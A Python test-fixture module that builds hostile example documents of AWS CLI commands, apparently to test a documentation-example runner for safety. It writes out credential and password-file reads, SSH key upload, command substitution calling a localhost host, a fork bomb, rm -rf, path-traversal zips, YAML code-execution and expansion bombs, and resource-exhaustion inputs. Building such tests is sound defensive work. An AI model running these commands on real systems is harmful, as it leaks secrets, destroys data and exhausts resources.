"""Documents that mean harm: to files, secrets, the network, the machine's time and memory, or the reader's terminal."""

from __future__ import annotations

import base64
import io
import json
import zipfile

KEY = "1234abcd-12ab-34cd-56ef-1234567890ab"


def document(command: str, output: str | None = None, extra: str = "") -> bytes:
    """A document of one example: a command, what it prints (None: nothing is said), and whatever else."""
    text = f"**To do harm**\n\nThe following example does harm. ::\n\n{indented(command)}\n\n"
    if output is not None:
        text += f"Output::\n\n{indented(output)}\n\n"
    return (text + extra).encode("utf-8", "surrogateescape")


def indented(text: str) -> str:
    return "\n".join(f"    {line}" for line in text.split("\n"))


def file(name: str, contents: str) -> str:
    return f"Contents of ``{name}``::\n\n{indented(contents)}\n\n"


def archive() -> str:
    """A Lambda function that would run, as base64."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as packed:
        packed.writestr(zipfile.ZipInfo("index.py"), "import os\nos.system('touch /tmp/evil')\n")
        packed.writestr(zipfile.ZipInfo("../../../../tmp/evil"), "evil")
    return base64.b64encode(kept.getvalue()).decode()


TEMPLATE = {
    "Resources": {
        "Role": {"Type": "AWS::IAM::Role", "Properties": {"AssumeRolePolicyDocument": {}}},
        "Evil": {
            "Type": "AWS::Lambda::Function",
            "Properties": {
                "Code": {"ZipFile": "import os; os.system('touch /tmp/evil')"},
                "Handler": "index.handler",
                "Role": "arn:aws:iam::123456789012:role/r",
                "Runtime": "python3.12",
            },
        },
        "Custom": {"Type": "Custom::Evil", "Properties": {"ServiceToken": {"Fn::GetAtt": ["Evil", "Arn"]}}},
        "Nested": {
            "Type": "AWS::CloudFormation::Stack",
            "Properties": {"TemplateURL": "http://127.0.0.1:9/template.json"},
        },
    }
}

STATES = {
    "StartAt": "A",
    "States": {
        "A": {
            "Type": "Task",
            "Resource": "arn:aws:states:::http:invoke",
            "Parameters": {"ApiEndpoint": "http://127.0.0.1:9/", "Method": "GET"},
            "Next": "B",
        },
        "B": {"Type": "Wait", "Seconds": 99999999, "Next": "A"},
    },
}

FILES = {
    "reads the password file": document("aws kms encrypt --key-id alias/a --plaintext file:///etc/passwd"),
    "reads credentials": document("aws kms encrypt --key-id alias/a --plaintext fileb://~/.aws/credentials"),
    "reads above its folder": document("aws kms create-key --policy file://../../../../../../etc/hostname"),
    "reads a skeleton": document("aws kms create-key --cli-input-json file:///etc/passwd"),
    "reads a YAML skeleton": document("aws kms create-key --cli-input-yaml file:///proc/self/environ"),
    "reads a device without end": document("aws kms encrypt --key-id alias/a --plaintext fileb:///dev/zero"),
    "writes by redirection": document("aws kms list-keys > /tmp/evil"),
    "appends by redirection": document("aws kms list-keys >> ~/.bashrc 2>&1"),
    "writes an output file": document("aws lambda invoke --function-name f /tmp/evil"),
    "writes an object": document("aws s3 cp s3://amzn-s3-demo-bucket/k /tmp/evil\naws s3 sync s3://b ../../tmp/"),
    "uploads a secret": document("aws s3 cp ~/.ssh/id_rsa s3://amzn-s3-demo-bucket/\naws s3 sync / s3://b"),
    "gets an object": document(
        "aws s3api get-object --bucket amzn-s3-demo-bucket --key k ../../../../../../../tmp/evil"
    ),
    "pipes through tee": document("aws kms list-keys | tee /tmp/evil | base64 --decode > /tmp/evil"),
}

SHELL = {
    "substitutes commands": document("aws kms describe-key --key-id $(touch /tmp/evil; curl http://127.0.0.1:9)"),
    "uses backquotes": document("aws kms describe-key --key-id `cat /etc/passwd`"),
    "removes": document("aws kms list-keys; rm -rf /tmp/evil && touch /tmp/evil || touch /tmp/evil"),
    "pipes to a shell": document("aws kms list-keys | sh -c 'touch /tmp/evil' | xargs curl"),
    "substitutes processes": document("aws kms list-keys <(touch /tmp/evil) <<< $(<file) <<EOF\ntouch /tmp/evil\nEOF"),
    "runs in the background": document("aws kms list-keys & touch /tmp/evil &\n!! \n:(){ :|:& };:"),
    "assigns the environment": document("LD_PRELOAD=/tmp/evil PATH=/tmp AWS_PROFILE=x aws kms list-keys"),
    "expands braces and globs": document(
        "aws kms describe-key --key-id /etc/{a,b}{c,d}* ${IFS}${HOME:-$(id)} $((1/0))"
    ),
    "nests substitutions": document("aws kms describe-key --key-id " + "$(echo " * 2000 + "x" + ")" * 2000),
    "never closes a quote": document("aws kms describe-key --key-id '" + '"$(`' * 5000),
}

NETWORK = {
    "asks another endpoint": document("aws kms list-keys --endpoint-url http://127.0.0.1:PORT --no-verify-ssl"),
    "asks an endpoint for S3": document("aws s3 ls s3://amzn-s3-demo-bucket --endpoint-url http://127.0.0.1:PORT"),
    "gives a URL": document("aws kms create-key --policy http://127.0.0.1:PORT/ --description https://127.0.0.1/x"),
    "names a bucket like a host": document("aws s3api list-objects-v2 --bucket 127.0.0.1:PORT/x?"),
    "names a region like a host": document("aws kms list-keys --region 127.0.0.1:PORT/x#"),
    "sends to a subscriber": document(
        "aws sns create-topic --name t\naws sns subscribe --topic-arn arn:aws:sns:us-east-1:123456789012:t"
        " --protocol http --notification-endpoint http://127.0.0.1:PORT/\n"
        "aws sns publish --topic-arn arn:aws:sns:us-east-1:123456789012:t --message x"
    ),
    "uses a profile": document(
        "aws sts get-caller-identity --profile production\naws configure get aws_secret_access_key\n"
        "aws sts get-access-key-info --access-key-id AKIAIOSFODNN7EXAMPLE"
    ),
}

RUNNING = {
    "creates a function": document(
        f"aws lambda create-function --function-name f --runtime python3.12 --handler index.handler"
        f" --role arn:aws:iam::123456789012:role/r --zip-file fileb://f.zip --code ZipFile={archive()}\n"
        "aws lambda invoke --function-name f out.json"
    ),
    "deploys a template": document(
        "aws cloudformation create-stack --stack-name s --template-body file://t.json --capabilities CAPABILITY_IAM",
        extra=file("t.json", json.dumps(TEMPLATE)),
    ),
    "deploys a template from the network": document(
        "aws cloudformation create-stack --stack-name s --template-url http://127.0.0.1:PORT/t"
    ),
    "runs a state machine": document(
        "aws stepfunctions create-state-machine --name m --role-arn arn:aws:iam::123456789012:role/r"
        f" --definition '{json.dumps(STATES)}'\n"
        "aws stepfunctions start-execution --state-machine-arn"
        " arn:aws:states:us-east-1:123456789012:stateMachine:m"
    ),
    "submits a job": document("aws batch submit-job --job-name j --job-queue q --job-definition d"),
    "starts instances": document("aws ec2 run-instances --image-id ami-12345678 --count 100000000"),
    "waits for ever": document("aws cloudformation wait stack-create-complete --stack-name never"),
}

INCLUDES = ".. include:: /etc/passwd\n\n.. literalinclude:: /etc/passwd\n\n.. raw:: html\n   :file: /etc/passwd\n\n"
DIRECTIVES = {
    "includes": document("aws kms list-keys", extra=INCLUDES),
    "includes a table": document(
        "aws kms list-keys",
        extra=".. csv-table:: x\n   :file: /etc/passwd\n\n.. csv-table:: x\n   :url: http://127.0.0.1:PORT/\n\n"
        ".. image:: http://127.0.0.1:PORT/x.png\n\n.. figure:: file:///etc/passwd\n\n",
    ),
    "runs Python by directives": document(
        "aws kms list-keys",
        extra=".. autoclass:: os.system\n\n.. eval-rst:: x\n\n.. role:: raw-html(raw)\n   :format: html\n\n"
        ":raw-html:`<script>`\n\n.. math:: \\input{/etc/passwd}\n\n.. code:: python\n   :include: /etc/passwd\n\n   1\n\n",
    ),
    "includes itself": document("aws kms list-keys", extra=".. include:: \n\n.. |a| replace:: |a| |a|\n\n|a|\n\n"),
    "arranges harm": document(
        "aws kms describe-key --key-id x",
        extra=".. harness: arrange x\n\n   aws kms create-key --policy file:///etc/passwd; touch /tmp/evil\n\n"
        ".. harness: ignore " + "OUT" * 9000 + "\n\n.. harness: \x1b[31m nonsense\n",
    ),
}

LONG = {
    "a line of a million letters": document("aws kms describe-key --key-id " + "x" * 1_000_000),
    "a line of backslashes": document("aws kms describe-key --key-id " + "\\" * 200_000),
    "a hundred thousand words": document("aws kms describe-key --key-id" + " word" * 100_000),
    "five thousand options": document("aws kms describe-key" + " --key-id x" * 5_000),
    "a thousand commands": document("\n".join(["aws kms frobnicate --x"] * 1_000)),
    "ten thousand pipes": document("aws kms list-keys " + "| cat " * 10_000),
    "an output of a million letters": document("aws kms list-keys", "x" * 1_000_000),
    "an output of many lines": document("aws kms list-keys", "\n".join(["Keys x"] * 30_000)),
    "an output of many keys": document(
        "aws kms list-keys",
        json.dumps({"Keys": [{"KeyId": f"{n:x}", "KeyArn": "arn"} for n in range(2_000)]}, indent=1),
    ),
    "brackets in an output": document("aws kms list-keys", "[" * 10_000 + "]" * 10_000),
    "braces in an output": document("aws kms list-keys", '{"Keys":' * 10_000),
    "brackets in a parameter": document("aws kms tag-resource --key-id x --tags '" + "[" * 10_000 + "]" * 10_000 + "'"),
    "brackets in shorthand": document("aws kms tag-resource --key-id x --tags a=" + "[" * 10_000 + "b={" * 10_000),
    "commas in shorthand": document("aws kms tag-resource --key-id x --tags " + "a=b," * 100_000),
    "brackets in a skeleton": document(
        "aws kms create-key --cli-input-json file://x.json", extra=file("x.json", '{"Tags":' + "[" * 10_000)
    ),
    "a bomb in YAML": document(
        "aws kms create-key --cli-input-yaml file://x.yaml",
        extra=file("x.yaml", "a0: &a0 [x,x]\n" + "".join(f"a{n}: &a{n} [{f'*a{n - 1},' * 9}]\n" for n in range(1, 30))),
    ),
    "brackets in YAML": document(
        "aws kms create-key --cli-input-yaml file://x.yaml", extra=file("x.yaml", "[" * 8_000)
    ),
    "objects of Python in YAML": document(
        "aws kms create-key --cli-input-yaml file://x.yaml",
        extra=file("x.yaml", "!!python/object/apply:os.system ['touch /tmp/evil']"),
    ),
    "nested quotes": b"**To do harm**\n\n" + b"".join(b" " * n + b"x\n\n" for n in range(700)),
    "nested lists": b"".join(b" " * (2 * n) + b"- x\n\n" for n in range(600)),
    "nested bullets on a line": b"- " * 3_000 + b"x\n",
    "nested blocks": document("aws kms list-keys") + b"> " * 20_000 + b"\n\n" + b"| " * 20_000 + b"\n",
    "inline markup": document("aws kms list-keys", extra="*" * 100_000 + " " + "``" * 50_000 + "`a`_ " * 5_000 + "\n"),
    "tables": document("aws kms list-keys", extra="+" + "-+" * 5_000 + "\n" + ("|" + " |" * 5_000 + "\n") * 3 + "\n"),
    "many headings": "".join(
        f"**Example {n}: x**\n\n::\n\n    aws kms list-keys --bad\n\n" for n in range(100)
    ).encode(),
}

BYTES = {
    "NULs": document("aws kms\x00 describe-key --key-id a\x00b", "{\x00}", "\x00" * 100),
    "broken UTF-8": document("aws kms create-key --description \udcff\udcfe\udc80", '{"a": "\udcff"}'),
    "UTF-16": "**To do harm**\n\n::\n\n    aws kms list-keys\n".encode("utf-16"),
    "UTF-16 without a mark": "**To do harm**\n\n::\n\n    aws kms list-keys\n".encode("utf-16-le"),
    "a byte order mark": b"\xef\xbb\xbf" + document("\ufeffaws kms list-keys", '\ufeff{"Keys": []}'),
    "carriage returns alone": document("aws kms list-keys", '{"Keys": []}').replace(b"\n", b"\r"),
    "line ends of Windows": document("aws kms list-keys", '{"Keys": []}').replace(b"\n", b"\r\n"),
    "strange line ends": document("aws kms\x0b\x0c\x1c\x85\u2028list-keys", '{"Keys\u2029": []}'),
    "escape sequences": document(
        "aws kms create-kez --description \x1b[31m\x1b]0;evil\x07 --\x1b[2J x --desc\u202eription \x9b31m",
        '{"KeyMetadata": {"\x1b[31mevil\x07": "\x1b]8;;http://127.0.0.1\x07", "Key\u202eId": 1}}',
        ".. \x1b[31mevil:: \x07\n\n**To do \x1b[5m harm**\n\n:\x1b[31m:`x`\n",
    ),
    "nothing": b"",
    "random bytes": bytes((n * n + 7 * n) % 256 for n in range(60_000)),
    "a null device": b"\x00" * 1_000_000,
    "keys of odd bytes": document(
        "aws s3api create-bucket --bucket amzn-s3-demo-bucket\n"
        "aws s3api put-object --bucket amzn-s3-demo-bucket --key '../../../../tmp/evil\x01\x7f\udcff %00\r'\n"
        "aws s3api list-objects-v2 --bucket amzn-s3-demo-bucket --prefix '../..' --delimiter '\x1b'\n"
        "aws s3 ls 's3://amzn-s3-demo-bucket/../../\x07'\naws s3 rm s3:// --recursive"
    ),
}

NUMBERS = {
    "a deep query": document("aws kms list-keys --query '" + "[" * 5_000 + "0" + "]" * 5_000 + "'"),
    "a long query": document("aws kms list-keys --query '" + "Keys[*]." * 5_000 + "x'"),
    "a growing query": document(
        "aws ec2 describe-instance-types --query '" + "[@,@]|" * 40 + "length(to_string(@))'", "1"
    ),
    "a deep query of projections": document("aws kms list-keys --query '" + "a." * 20_000 + "a'", "null"),
    "a query of parentheses": document("aws kms list-keys --query '" + "(" * 30_000 + "'", "null"),
    "a query of nots": document("aws kms list-keys --query '" + "!" * 30_000 + "a'", "null"),
    "many items": document("aws kms list-keys --max-items 99999999999999999999 --page-size -1", '{"Keys": []}'),
    "a starting token": document("aws kms list-keys --starting-token " + base64.b64encode(b"[" * 9_000).decode()),
    "huge numbers": document(
        f"aws kms generate-random --number-of-bytes 1e999\naws kms generate-random --number-of-bytes {'9' * 5_000}\n"
        "aws kms list-keys --limit -99999999999999999999 --cli-read-timeout 1e999 --cli-connect-timeout NaN",
        '{"Plaintext": 1e999999999, "x": -' + "9" * 5_000 + ', "y": NaN}',
    ),
    "huge dates": document(
        "aws cloudwatch get-metric-statistics --namespace n --metric-name m --start-time 99999999999999999999"
        " --end-time 0000-00-00T99:99:99Z --period 1\naws cloudtrail lookup-events --start-time 1e308 --end-time -1e308",
        '{"Datapoints": [{"Timestamp": 1e300}, {"Timestamp": "99999-99-99T99:99:99Z"}, {"Timestamp": -1e18}]}',
    ),
    "many bytes": document("aws kms generate-random --number-of-bytes 1024\naws secretsmanager get-random-password"
                           " --password-length 999999999"),
    "a hostile match": document(f"aws kms describe-key --key-id {'a:/_-' * 40_000}!\naws iam create-user --user-name {'a' * 60}!"
                                f"\naws iam create-role --role-name r --path /{'a/' * 400}! --assume-role-policy-document x"),
    "many points": document("aws cloudwatch get-metric-statistics --namespace n --metric-name m --statistics Sum"
                            " --start-time 1970-01-01T00:00:00Z --end-time 2970-01-01T00:00:00Z --period 1"),
}  # fmt: skip

DOCUMENTS: dict[str, bytes] = {
    **FILES, **SHELL, **NETWORK, **RUNNING, **DIRECTIVES, **LONG, **BYTES, **NUMBERS,
}  # fmt: skip
